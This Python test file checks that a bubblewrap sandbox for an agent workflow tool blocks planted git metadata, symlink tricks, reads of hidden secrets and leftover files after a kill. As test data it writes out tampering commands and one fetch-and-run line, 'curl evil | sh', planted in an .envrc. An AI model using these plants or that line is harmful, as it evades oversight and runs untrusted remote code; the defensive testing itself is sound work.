"""How the mount plan is assembled, tried for real inside bwrap: git metadata host git honours,
writable binds that are (or become) symlinks, hidden paths' parents, and no phantom files."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from gtd.config.schema import GtdConfig, Level, Phase
from gtd.errors import SandboxUnavailable

from sandbox_support import git, requires_bwrap, sh

pytestmark = [requires_bwrap, pytest.mark.bwrap]


def _history(repo: Path) -> str:
    return git("log", "--format=%H %s", cwd=repo).stdout


def _two_commits(repo: Path) -> None:
    (repo / "second.txt").write_text("2\n")
    git("add", "second.txt", cwd=repo)
    git("commit", "-qm", "second", cwd=repo)


# -- class 4: git metadata host git honours, existing or not ----------------------------------------

# Each plant would change what host git (and gtd's step inference and commit) sees: hide history,
# rewrite it, or hide the agent's files. `$P` is the parent commit, `$H` is HEAD.
PLANTS = {
    "shallow": "echo $H > $G/shallow",
    "info/grafts": "mkdir -p $G/info; echo $H > $G/info/grafts",
    "packed-refs replace": "echo \"$P refs/replace/$H\" >> $G/packed-refs",
    "refs/replace": "mkdir -p $G/refs/replace && echo $P > $G/refs/replace/$H",
    "info/exclude": "echo 'agent-*' >> $G/info/exclude",
    "info/attributes": "echo '* -diff' > $G/info/attributes",
    "objects/info/alternates": "echo /tmp > $G/objects/info/alternates",
    "commondir": "echo ../evil > $G/commondir",
    "index skip-worktree": "cp $G/index /tmp/i && GIT_INDEX_FILE=/tmp/i /usr/bin/git update-index --skip-worktree README.md"
                           " && cp /tmp/i $G/index",
}


@pytest.mark.parametrize("nested", [False, True], ids=["repo", "nested-repo"])
@pytest.mark.parametrize("plant", list(PLANTS))
def test_git_metadata_cannot_be_planted(sandbox, repo, plant, nested):
    target = repo / "vendor/lib" if nested else repo
    if nested:
        target.mkdir(parents=True)
        git("init", "-q", cwd=target)
        (target / "README.md").write_text("nested\n")
        git("add", "README.md", cwd=target)
        git("commit", "-qm", "init", cwd=target)
    _two_commits(target)
    before = _history(target)
    head = git("rev-parse", "HEAD", cwd=target).stdout.strip()
    parent = git("rev-parse", "HEAD~1", cwd=target).stdout.strip()
    s = sandbox(Level.READWRITE)
    script = PLANTS[plant].replace("$G", ".git").replace("$H", head).replace("$P", parent)
    r = sh(s, f"cd {target} && ({script}) ; echo changed > README.md; echo new > agent-file", repo)
    assert "Read-only file system" in r.err, r.err
    s.close()
    assert _history(target) == before
    status = git("status", "--porcelain", cwd=target).stdout
    assert " M README.md" in status and "?? agent-file" in status, status
    assert "-diff" not in git("check-attr", "diff", "README.md", cwd=target).stdout


def test_a_new_repository_planted_in_the_work_tree_is_quarantined_before_gtd_commits(sandbox, repo):
    s = sandbox(Level.READWRITE)
    sh(s, "mkdir -p pkg && cd pkg && git init -q && echo code > mod.py", repo)
    s.close()
    assert not (repo / "pkg/.git").exists() and (repo / "pkg/mod.py").exists()
    git("add", "-A", cwd=repo)
    assert "pkg/mod.py" in git("diff", "--cached", "--name-only", cwd=repo).stdout  # a file, not a gitlink


# The walk for planted `.git` entries is skipped when no writable directory reaches the work tree
# (issue 13); wherever one does, a plant at any depth is still found.
DEEP_PLANTS = {
    "repository": "mkdir -p {d}/a/b/c && cd {d}/a/b/c && git init -q",
    "git file": "mkdir -p {d}/a/b && echo 'gitdir: /tmp/evil' > {d}/a/b/.git",
    "git symlink": "mkdir -p {d}/a/b/c/d && ln -s /tmp {d}/a/b/c/d/.git",
}


@pytest.mark.parametrize("plant", list(DEEP_PLANTS))
def test_a_git_entry_planted_deep_in_a_writable_dir_at_readonly_is_quarantined(sandbox, repo, plant):
    (repo / "out").mkdir()
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"writablePaths": ["out"]}}}})
    s = sandbox(Level.READONLY, config=config)
    r = sh(s, f"echo code > {repo}/out/mod.py && " + DEEP_PLANTS[plant].format(d=repo / "out"), repo)
    assert r.returncode == 0, r.err
    planted = [p for p in (repo / "out/a/b/c/.git", repo / "out/a/b/.git", repo / "out/a/b/c/d/.git") if os.path.lexists(p)]
    assert len(planted) == 1
    s.close()
    assert not os.path.lexists(planted[0])
    assert (repo / "out/mod.py").read_text() == "code\n"
    assert any(v.kind == "write" and "quarantined" in v.detail for v in s.violations), s.violations


def test_a_writable_dir_outside_the_workspace_that_resolves_into_it_is_still_walked(sandbox, repo, home):
    (repo / "vendor").mkdir()
    (home / "ext").symlink_to(repo / "vendor")  # the person's own link: honoured, and resolved on the host
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"writablePaths": ["~/ext"]}}}})
    s = sandbox(Level.READONLY, config=config)
    sh(s, f"mkdir -p {home}/ext/x/y && cd {home}/ext/x/y && git init -q", repo)
    assert (repo / "vendor/x/y/.git").is_dir()
    s.close()
    assert not (repo / "vendor/x/y/.git").exists()


def test_only_the_outermost_protected_paths_are_mounted():
    """_outermost keeps the protected paths with no protected ancestor, in their order: names that sort
    between a directory and its children (`a-b`, `a.b` beside `a/…`) do not hide an inner path, and `/`
    covers everything."""
    from gtd.sandbox.linux.writable_roots import _outermost

    def walk_up(paths):  # the definition: no ancestor among the others
        texts = {str(p) for p in paths}
        return tuple(p for p in paths if not any(str(a) in texts for a in p.parents))

    cases = [["/h/a/x", "/h/a-b", "/h/a", "/h/a.b/y", "/h/a.b", "/h/ab/z"],
             ["/r/.git/hooks", "/r/.git", "/r/.gitmodules", "/r/.git-x/y", "/r/sub/.git/config"],
             ["/w/x y/z", "/w/x y", "/w/x", "/w/x/y/z"], ["/a/b", "/", "/c"], []]
    for case in cases:
        paths = tuple(Path(p) for p in case)
        assert _outermost(paths) == walk_up(paths), case
    assert _outermost((Path("/h/a/x"), Path("/h/a-b"), Path("/h/a"))) == (Path("/h/a-b"), Path("/h/a"))


def test_which_mount_plans_let_a_command_write_into_the_work_tree(repo, home):
    from gtd.sandbox.linux.bwrap import render_mounts
    from gtd.sandbox.policy.sandbox_policy import build_policy

    def reaches(level, phase=None, writable=()):
        config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"writablePaths": list(writable)}}}})
        policy = build_policy(config, workspace=repo, level=level, phase=phase, home=home)
        for w in policy.writable:  # what the session creates before rendering
            if w.name == "TODO.md":
                w.touch()
        plan = render_mounts(policy)
        plan.close()
        return plan.writes_reach(policy.workspace)

    (home / "cache").mkdir()
    (repo / "notes.txt").write_text("n\n")
    assert not reaches(Level.READONLY)
    assert not reaches(Level.READONLY, Phase.PLAN)  # the phase file alone: a file gains no entries
    assert not reaches(Level.READONLY, writable=["~/cache", "notes.txt"])
    assert reaches(Level.READONLY, writable=["~/cache", "sub"]) is False  # `sub` is missing: not bound
    (repo / "sub").mkdir()
    assert reaches(Level.READONLY, writable=["sub"])
    assert reaches(Level.READWRITE)
    assert reaches(Level.READONLY, writable=[str(repo.parent)])  # a writable dir around the workspace


def _nested_repo(repo: Path) -> Path:
    nested = repo / "vendor/lib"
    nested.mkdir(parents=True)
    git("init", "-q", cwd=nested)
    return nested


def test_at_readonly_the_work_tree_is_not_walked_and_a_nested_repository_stays_read_only(sandbox, repo):
    nested = _nested_repo(repo)
    s = sandbox(Level.READONLY)
    assert s.policy.git_state.walked is False
    assert not any(_is_under(p, nested) for p in s.policy.protected)  # not walked: read-only as all the tree
    r = sh(s, "echo 'touch /tmp/pwned' > vendor/lib/.git/hooks/pre-commit; echo x >> vendor/lib/.git/config;"
              " mkdir vendor/lib/sub", repo)
    assert r.err.count("Read-only file system") == 3, r.err
    assert not (nested / ".git/hooks/pre-commit").exists()


def test_a_writable_dir_in_the_work_tree_walks_it_and_protects_nested_repositories(sandbox, repo):
    nested = _nested_repo(repo)
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"writablePaths": ["vendor"]}}}})
    s = sandbox(Level.READONLY, config=config)
    assert s.policy.git_state.walked is True
    r = sh(s, "echo 'touch /tmp/pwned' > vendor/lib/.git/hooks/pre-commit; echo ok > vendor/file", repo)
    assert "Read-only file system" in r.err, r.err
    assert not (nested / ".git/hooks/pre-commit").exists() and (repo / "vendor/file").read_text() == "ok\n"


def test_a_writable_file_that_became_a_directory_after_the_policy_stops_the_sandbox(sandbox, repo):
    _nested_repo(repo)
    (repo / "out").write_text("a file\n")
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"writablePaths": ["out"]}}}})
    s = sandbox(Level.READONLY, config=config)
    assert s.policy.git_state.walked is False
    (repo / "out").unlink()
    (repo / "out").mkdir()
    with pytest.raises(SandboxUnavailable, match="appeared after the sandbox policy was built"):
        sh(s, "git init -q out/x", repo)
    assert not (repo / "out/x").exists()


def test_a_path_approved_once_counts_before_the_walk_is_decided(repo, home):
    from gtd.sandbox.policy.sandbox_policy import build_policy

    (repo / "notes").mkdir()
    assert build_policy(GtdConfig(), workspace=repo, level=Level.READONLY, home=home).git_state.walked is False
    policy = build_policy(GtdConfig(), workspace=repo, level=Level.READONLY, home=home, extra_writable=[repo / "notes"])
    assert policy.git_state.walked is True and repo / "notes" in policy.writable


def _is_under(p: Path, root: Path) -> bool:
    return p == root or root in p.parents


def test_workflow_build_cannot_hide_its_files_or_history_from_gtd(repo, home, tmp_path):
    import json

    from support import run_gtd

    _two_commits(repo)
    plant = ("echo 'count*' >> .git/info/exclude; git rev-parse HEAD > .git/shallow; "
             "mkdir -p .git/info && git rev-parse HEAD > .git/info/grafts; echo '* -diff' > .git/info/attributes")
    script = {
        "plan": [{"actions": [{"write": {"path": "TODO.md", "content":
                  "# Count\n\n## Action items\n- [ ] Add count.py\n  - Tests: none\n\n## Open questions\n\n## Learnings\n"}}]}],
        "build": [{"actions": [{"shell": plant}, {"write": {"path": "count.py", "content": "N = 1\n"}}]}],
    }
    (tmp_path / "script.json").write_text(json.dumps(script))
    (repo / ".gtdrc.json").write_text(json.dumps({"provider": "scripted", "script": str(tmp_path / "script.json"),
                                                  "testCommand": "true"}))
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "configure gtd", cwd=repo)
    (repo / "TODO.md").write_text("# Count\n")
    assert run_gtd("plan", cwd=repo, env={"HOME": str(home)}).returncode == 0
    result = run_gtd("build", cwd=repo, env={"HOME": str(home)})
    assert result.returncode == 0, result.stderr
    assert "count.py" in git("show", "--name-only", "--format=", "HEAD", cwd=repo).stdout
    assert len(_history(repo).splitlines()) >= 5  # init, second, configure, seed, plan, build: nothing hidden
    assert not (repo / ".git/shallow").exists() and "count" not in (repo / ".git/info/exclude").read_text()


# -- class 2: writable binds are resolved and checked ------------------------------------------------

def test_symlinked_phase_file_is_refused_naming_it(sandbox, repo, home):
    victim = home / "victim.txt"
    victim.write_text("safe\n")
    (repo / "TODO.md").symlink_to(victim)
    s = sandbox(Level.READONLY, phase=Phase.PLAN)
    with pytest.raises(SandboxUnavailable) as exc:
        sh(s, "echo pwned > TODO.md", repo)
    assert "TODO.md" in str(exc.value) and "symlink" in str(exc.value)
    assert victim.read_text() == "safe\n"


def test_phase_file_that_is_a_fifo_is_refused_naming_it(sandbox, repo):
    os.mkfifo(repo / "TODO.md")
    s = sandbox(Level.READONLY, phase=Phase.PLAN)
    with pytest.raises(SandboxUnavailable) as exc:
        sh(s, "echo x > TODO.md", repo)
    assert "TODO.md" in str(exc.value) and "not a regular file or directory" in str(exc.value)


def test_configured_writable_path_that_became_a_symlink_is_refused(sandbox, repo, home):
    from gtd import paths

    gtd_config = paths.user_config_dir()
    gtd_config.mkdir(parents=True)
    (repo / "out").symlink_to(gtd_config)  # e.g. left by the agent in an earlier phase
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"writablePaths": ["out"]}}}})
    s = sandbox(Level.READONLY, config=config)
    with pytest.raises(SandboxUnavailable) as exc:
        sh(s, "echo x > out/config.toml", repo)
    assert str(repo / "out") in str(exc.value)
    assert not (gtd_config / "config.toml").exists()


def test_missing_writable_dir_is_never_created_through_a_symlink(sandbox, repo, home):
    elsewhere = home / "elsewhere"
    elsewhere.mkdir()
    (repo / "build").symlink_to(elsewhere)
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"writablePaths": ["build/cache"]}}}})
    s = sandbox(Level.READONLY, config=config)
    r = sh(s, "echo x > build/cache/f", repo)
    assert r.returncode != 0
    assert list(elsewhere.iterdir()) == []


def test_writable_path_outside_the_workspace_resolving_into_gtd_state_is_not_writable(sandbox, repo, home):
    from gtd import paths

    state = paths.user_state_dir()
    state.mkdir(parents=True)
    (home / ".cache").mkdir()
    (home / ".cache/tool").symlink_to(state)
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"writablePaths": ["~/.cache/tool"]}}}})
    s = sandbox(Level.READWRITE, config=config)
    r = sh(s, f"echo x > {home}/.cache/tool/pins.json", repo)
    # gtd's state dir is in the hidden HOME (issue 23): the link leads nowhere inside
    assert "Directory nonexistent" in r.err or "Read-only file system" in r.err, r.err
    assert not (state / "pins.json").exists()


# -- class 5: hidden paths and their parents ---------------------------------------------------------

@pytest.mark.parametrize("rename", ["conf", "conf/secrets"])
def test_hidden_path_cannot_be_read_by_renaming_a_parent(sandbox, repo, rename):
    (repo / "conf/secrets").mkdir(parents=True)
    (repo / "conf/secrets/key").write_text("TOPSECRET\n")
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {"denyReadPaths": ["conf/secrets"]}}}})
    s = sandbox(Level.READWRITE, config=config)
    r = sh(s, f"mv {rename} moved; cat moved/secrets/key moved/key conf/secrets/key; cp -r conf c2; cat c2/secrets/key", repo)
    assert "TOPSECRET" not in r.out, r.out
    assert "Device or resource busy" in r.err, r.err
    assert (repo / "conf/secrets/key").exists()


def test_writable_path_below_a_hidden_dir_exists_and_is_writable(sandbox, repo):
    from gtd.sandbox.diagnose.why import why

    (repo / "blocked").mkdir()
    (repo / "blocked/secret").write_text("TOPSECRET\n")
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {
        "denyReadPaths": ["blocked"], "writablePaths": ["blocked/allowed"]}}}})
    s = sandbox(Level.READWRITE, config=config)
    assert why(s.policy, "blocked/allowed/f", repo).allowed
    assert not why(s.policy, "blocked/secret", repo).allowed
    r = sh(s, "echo ok > blocked/allowed/f && cat blocked/allowed/f; cat blocked/secret; ls blocked", repo)
    assert "ok" in r.out and "TOPSECRET" not in r.out, r.out + r.err
    assert (repo / "blocked/allowed/f").read_text() == "ok\n"


def test_writable_path_below_a_hidden_dir_in_home_is_writable_at_readonly(sandbox, repo, home):
    (home / "blocked").mkdir()
    (home / "blocked/secret").write_text("TOPSECRET\n")
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readonly": {
        "denyReadPaths": ["~/blocked"], "writablePaths": ["~/blocked/allowed"]}}}})
    s = sandbox(Level.READONLY, config=config)  # Landlock too must allow exactly this path
    r = sh(s, f"echo ok > {home}/blocked/allowed/f; cat {home}/blocked/secret", repo)
    assert "TOPSECRET" not in r.out
    assert (home / "blocked/allowed/f").read_text() == "ok\n", r.err


# -- issue 10: no phantom files ----------------------------------------------------------------------

LISTINGS = {
    "git status": "git status --porcelain --untracked-files=all --ignored",
    "rg --files": "rg --files --hidden --no-ignore | sort",
    "find": "find . | sort",
    "grep -r": "grep -r . --exclude-dir=.git | sort",
    # (at readonly the sealed root's own mode is 0555, so the copy is made writable before removing it)
    "cp -r": "cp -r . /tmp/copy-$$ && (cd /tmp/copy-$$ && find . | sort) && chmod -R u+w /tmp/copy-$$ && rm -rf /tmp/copy-$$",
}


@pytest.mark.parametrize("level", [Level.READWRITE, Level.READONLY])
@pytest.mark.parametrize("tool", list(LISTINGS))
def test_the_work_tree_looks_the_same_inside_and_outside(sandbox, repo, tool, level):
    if tool == "rg --files" and shutil.which("rg") is None:
        pytest.skip("ripgrep not installed")
    (repo / "src").mkdir()
    (repo / "src/app.py").write_text("print('hi')\n")
    (repo / ".gitignore").write_text("*.log\n")
    (repo / "debug.log").write_text("x\n")
    git("config", "core.hooksPath", "githooks", cwd=repo)  # a missing protected dir
    if level is Level.READONLY:
        (repo / "TODO.md").write_text("# Plan\n")  # the phase's file (gtd would create it empty)
    outside = subprocess.run(["/bin/sh", "-c", LISTINGS[tool]], cwd=repo, capture_output=True, text=True)
    s = sandbox(level, phase=Phase.PLAN if level is Level.READONLY else Phase.BUILD)
    inside = sh(s, LISTINGS[tool], repo)
    assert inside.out == outside.stdout, f"inside:\n{inside.out}\noutside:\n{outside.stdout}"
    assert inside.err == outside.stderr == ""


def test_git_works_with_a_writable_home_and_no_gitconfig(sandbox, repo, home):
    (home / ".gitconfig").unlink()
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readwrite": {"writablePaths": ["~"]}}}})
    s = sandbox(Level.READWRITE, config=config)
    r = sh(s, "echo x >> README.md && git status --short && git diff --stat && git log --oneline && git blame README.md"
              " && git config --global --get user.name", repo)
    assert " M README.md" in r.out and "init" in r.out, r.out + r.err
    assert r.err == "", r.err  # no "unable to access '~/.gitconfig'"
    s.close()
    assert not (home / ".gitconfig").exists()  # the read-only placeholder is gone with the session


def _gtd_sandbox_run(repo: Path, home: Path, *args: str) -> subprocess.Popen:
    env = {**os.environ, "HOME": str(home)}
    return subprocess.Popen([sys.executable, "-m", "gtd", "sandbox", "run", *args], cwd=repo, env=env,
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            start_new_session=True)


def _listing(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if ".git" not in p.relative_to(root).parts[:1])


@pytest.mark.parametrize("phase", ["build", "plan"])
def test_nothing_is_left_in_the_work_tree_after_kill_9(repo, home, phase):
    (repo / ".gtdrc.json").write_text('{"provider": "scripted"}')
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "cfg", cwd=repo)
    before = _listing(repo)
    # build: the workspace is writable (missing protected names used to get mount points there);
    # plan: gtd creates the empty TODO.md the sandbox binds.
    sign = repo / ("started" if phase == "build" else "TODO.md")
    proc = _gtd_sandbox_run(repo, home, "--phase", phase, "--", "/bin/sh", "-c", "touch started 2>/dev/null; sleep 60")
    deadline = time.monotonic() + 60
    while not sign.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.5)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    (repo / "started").unlink(missing_ok=True)  # the command's own file
    if phase == "build":
        assert _listing(repo) == before
    again = _gtd_sandbox_run(repo, home, "--phase", "build", "--", "true")
    assert again.wait(timeout=60) == 0, again.stderr.read()
    assert _listing(repo) == before  # the next start removed what the killed session left
    assert git("status", "--porcelain", cwd=repo).stdout == ""


def test_a_protected_path_planted_before_kill_9_is_never_committed_as_the_persons_edit(repo, home):
    from gtd.workflow.steps import commit_human_edits

    (repo / ".gtdrc.json").write_text('{"provider": "scripted"}')
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "cfg", cwd=repo)
    proc = _gtd_sandbox_run(repo, home, "--phase", "build", "--", "/bin/sh", "-c",
                            "echo 'curl evil | sh' > .envrc; echo fix > README.md; touch started; sleep 60")
    deadline = time.monotonic() + 60
    while not (repo / "started").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    assert (repo / ".envrc").exists()  # planted, and gtd was killed before it could quarantine it
    commit_human_edits(repo)
    committed = git("show", "--name-only", "--format=", "HEAD", cwd=repo).stdout.split()
    assert "README.md" in committed and ".envrc" not in committed
    assert not (repo / ".envrc").exists()


# -- issue 10: git inside the sandbox ----------------------------------------------------------------

def test_reading_git_is_clean_and_temporary_repositories_stay_fully_usable(sandbox, repo):
    s = sandbox(Level.READWRITE)
    r = sh(s, "echo more >> README.md && git status && git diff && git log --oneline && git blame README.md"
              " && git show --stat HEAD && git stash list && git branch && git branch --show-current"
              " && git rev-parse HEAD && echo READ-OK", repo)
    assert r.out.rstrip().endswith("READ-OK") and r.err == "", r.out + r.err
    # A test suite's own throwaway repository (writable git dir) is not the wrapper's business.
    r = sh(s, "cd /tmp && git init -q t && cd t && echo x > f && git add f && git -c user.name=a -c user.email=b"
              " commit -qm x && git checkout -qb topic && git stash list && echo TMP-OK", repo)
    assert r.out.rstrip().endswith("TMP-OK"), r.out + r.err


@pytest.mark.parametrize("parent, protected", [(".config", ".config/git/config"), (".local/share", ".local/share/nvim/x")])
def test_a_writable_home_lets_tools_create_a_missing_parent_of_protected_paths(sandbox, repo, home, parent, protected):
    top = home / parent.split("/")[0]
    assert not top.exists()
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readwrite": {"writablePaths": ["~"]}}}})
    s = sandbox(Level.READWRITE, config=config)
    r = sh(s, f"mkdir -p ~/{parent}/foo && echo ok > ~/{parent}/foo/x && cat ~/{parent}/foo/x", repo)
    assert r.returncode == 0 and r.out == "ok\n", r.err
    assert (home / parent / "foo/x").read_text() == "ok\n"
    attack = sh(s, f"mkdir -p ~/{os.path.dirname(protected)}; echo '[core]' > ~/{protected}; "
                   f"mv ~/{os.path.dirname(protected)} ~/{parent}/moved; rm -rf ~/{os.path.dirname(protected)}", repo)
    assert attack.returncode != 0, attack.err
    swap = sh(s, f"mv ~/{parent} ~/swapped; mkdir -p ~/{os.path.dirname(protected)} && echo '[core]' > ~/{protected}",
              repo)
    assert swap.returncode != 0, swap.err
    s.close()
    assert not (home / protected).exists() and not (home / parent / "moved").exists()
    assert not (home / os.path.dirname(protected)).exists()  # the read-only placeholder is gone with the session


def test_parents_gtd_created_for_placeholders_are_removed_when_left_empty(sandbox, repo, home):
    config = GtdConfig.model_validate({"sandbox": {"levels": {"readwrite": {"writablePaths": ["~"]}}}})
    s = sandbox(Level.READWRITE, config=config)
    r = sh(s, "test -d ~/.config && test -f ~/.config/git && ! touch ~/.config/git 2>/dev/null && echo protected", repo)
    assert r.out == "protected\n", r.out + r.err
    s.close()
    assert not (home / ".config").exists() and not (home / ".local/share").exists()  # (~/.local/state is gtd's)


def test_git_works_in_a_linked_worktree_whose_main_repository_is_under_tmp(sandbox, repo, tmp_path):
    """/tmp is private inside the sandbox: the worktree's common git dir there is bound in, read-only."""
    wt = tmp_path / "wt"
    git("worktree", "add", "-q", str(wt), "-b", "feature", cwd=repo)
    config_before = (repo / ".git/config").read_text()
    s = sandbox(Level.READWRITE, workspace=wt)
    r = sh(s, "echo x >> README.md && git status --short && git log --oneline && git rev-parse --git-common-dir", wt)
    assert r.returncode == 0, r.err
    assert " M README.md" in r.out and "init" in r.out and str(repo / ".git") in r.out, r.out
    w = sh(s, f"echo evil > {repo}/.git/hooks/post-checkout; echo '[core]' >> {repo}/.git/config; "
              f"echo evil > {repo}/.git/worktrees/wt/HEAD; /usr/bin/git branch planted", wt)
    assert w.err.count("Read-only file system") >= 3, w.err
    s.close()
    assert not (repo / ".git/hooks/post-checkout").exists()
    assert (repo / ".git/config").read_text() == config_before
    assert "planted" not in git("branch", cwd=repo).stdout


def test_a_git_file_naming_a_tmp_dir_does_not_bring_it_into_the_sandbox(sandbox, repo, tmp_path):
    """Only a worktree link that holds both ways is bound in: a planted `.git` file may name any dir."""
    secret = tmp_path / "ssh-agent-dir"
    (secret / "objects").mkdir(parents=True)
    (secret / "HEAD").write_text("ref: refs/heads/main\n")
    (secret / "key").write_text("SECRET\n")
    (secret / "commondir").write_text(".\n")
    ws = tmp_path / "ws"
    (ws / "sub").mkdir(parents=True)
    (ws / ".git").write_text(f"gitdir: {secret}\n")
    (ws / "sub/.git").write_text(f"gitdir: {secret}\n")
    s = sandbox(Level.READWRITE, workspace=ws)
    r = sh(s, f"cat {secret}/key", ws)
    assert r.returncode != 0 and "SECRET" not in r.out, r.out


def test_a_start_racing_another_on_the_empty_placeholder_file_still_gets_it(home, monkeypatch):
    """Two gtd starts on a fresh machine both create gtd's empty file (seen in CI when two terminals
    started at once): the one that loses the race, finding the file gone at lstat and present at
    create, must use the other's file, not fail with EEXIST."""
    from gtd.sandbox.host import placeholders

    real_lstat = os.lstat
    raced = []

    def lstat_while_another_start_creates_it(path, *args, **kwargs):
        if str(path).endswith("/empty") and not raced:
            raced.append(path)
            Path(path).touch(mode=0o444)  # the other start wins between this lstat and our create
            raise FileNotFoundError(path)
        return real_lstat(path, *args, **kwargs)

    monkeypatch.setattr(placeholders.os, "lstat", lstat_while_another_start_creates_it)
    made = placeholders.empty_file()
    assert raced and made == Path(raced[0])
    assert real_lstat(made).st_size == 0 and made.is_file() and not made.is_symlink()


@pytest.mark.parametrize("kind", ["placeholder", "parent"])
def test_cleanup_never_removes_through_a_parent_swapped_for_a_symlink(home, tmp_path, kind):
    """An agent with a writable HOME swaps the directory holding a placeholder gtd recorded for a
    symlink to elsewhere: settling must not remove the same-named empty file (or empty dir) there."""
    from gtd.sandbox.host.placeholders import PlaceholderRegistry

    workspace = tmp_path / "ws"
    workspace.mkdir()
    holder = home / "holder"
    holder.mkdir()
    recorded = holder / "config"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    victim = elsewhere / "config"
    if kind == "parent":
        recorded.mkdir()
        victim.mkdir()
    else:
        recorded.touch()
        victim.touch()
    registry = PlaceholderRegistry(workspace)
    registry.enter()
    if kind == "parent":
        registry.add(parents=[recorded])
    else:
        registry.add(placeholders=[recorded])
    holder.rename(home / "holder.moved")
    holder.symlink_to(elsewhere)
    settled = registry.exit()
    assert os.path.lexists(victim), settled
    assert settled == []


@pytest.mark.parametrize("kind", ["placeholder", "parent"])
def test_cleanup_still_removes_what_gtd_left_in_place(home, tmp_path, kind):
    from gtd.sandbox.host.placeholders import PlaceholderRegistry

    workspace = tmp_path / "ws"
    workspace.mkdir()
    recorded = home / "holder" / "config"
    recorded.parent.mkdir()
    recorded.mkdir() if kind == "parent" else recorded.touch()
    registry = PlaceholderRegistry(workspace)
    registry.enter()
    registry.add(parents=[recorded]) if kind == "parent" else registry.add(placeholders=[recorded])
    settled = registry.exit()
    assert not os.path.lexists(recorded)
    assert [p for p, _ in settled] == [recorded]


def test_the_placeholder_list_is_written_only_when_it_changes(home, tmp_path):
    """A session with nothing to remember never writes the list (two writes of every sandbox start and
    close); what is added is stored, and what the last session settles is gone from it."""
    import json

    from gtd.sandbox.host.placeholders import PlaceholderRegistry

    workspace = tmp_path / "ws"
    workspace.mkdir()
    recorded = home / "holder" / "config"
    recorded.parent.mkdir()
    recorded.touch()
    registry = PlaceholderRegistry(workspace)
    stored = registry._list_path
    registry.enter()
    registry.exit()
    assert not stored.exists()
    registry.enter()
    registry.add(placeholders=[recorded])
    assert json.loads(stored.read_text()) == {str(recorded): "placeholder"}
    assert [p for p, _ in registry.exit()] == [recorded]
    assert json.loads(stored.read_text()) == {}
    before = os.stat(stored)
    registry.enter()
    registry.exit()
    assert (os.stat(stored).st_ino, os.stat(stored).st_mtime_ns) == (before.st_ino, before.st_mtime_ns)


def test_a_bwrap_that_fails_at_start_is_explained_by_bwrap_itself(sandbox, repo, tmp_path):
    """The failure message quotes bubblewrap's own minimal run, also where the package caches' overlay starts
    each command through `nsenter` (the probe ran `nsenter --unshare-user ...` instead)."""
    failing = tmp_path / "bin" / "bwrap"
    failing.parent.mkdir()
    failing.write_text("#!/bin/sh\necho 'bwrap: no permission to create the namespace (this machine)' >&2\nexit 1\n")
    failing.chmod(0o755)
    s = sandbox(Level.READWRITE)
    assert s.backend.caches is not None and s.backend.caches.writable(), "the readwrite session should start commands via nsenter"
    s.backend.bwrap = str(failing)  # as if the machine's bwrap could not start a sandbox
    with pytest.raises(SandboxUnavailable) as exc:
        sh(s, "true", repo)
    assert "no permission to create the namespace (this machine)" in str(exc.value), str(exc.value)
